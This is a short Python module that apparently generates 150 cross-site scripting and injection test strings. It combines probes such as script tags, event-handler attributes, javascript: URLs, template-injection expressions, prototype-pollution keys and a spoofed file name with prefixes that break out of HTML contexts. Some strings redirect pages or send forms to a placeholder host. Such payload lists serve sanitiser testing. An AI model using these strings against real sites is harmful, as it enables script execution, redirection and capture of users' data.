"""150 texts that become more than text wherever a page reads one as markup, script, address or style."""

from itertools import islice, product

ACTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import '//x.example/a.css';*{display:none}</style>",
    "<base href='//x.example/'>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<form action=//x.example><button>x</button></form>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<template><script>alert(1)</script></template>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "expression(alert(1))",
    "__proto__",
    "constructor",
    "toString",
    "\u202egnp.exe",
    "\u2028alert(1)//\u2029",
]
BEFORE = ["", '">', "'>", "</mark></p></li>", "-->", "]]></script></style></textarea>"]
PAYLOADS = list(islice((before + act for before, act in product(BEFORE, ACTS)), 150))
